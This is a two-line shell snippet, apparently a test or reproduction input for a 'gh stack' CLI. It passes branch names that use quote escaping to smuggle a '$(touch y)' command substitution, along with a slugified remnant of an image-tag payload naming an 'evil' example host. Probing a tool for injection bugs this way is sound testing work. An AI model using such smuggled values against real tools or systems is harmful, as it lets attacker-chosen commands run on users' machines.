gh stack init 'x'"'"'$(touch y);/1-add-a-b-c-d-e-img-src-x-l-http-evil-exam' 'x'"'"'$(touch y);/2-part'
gh stack submit
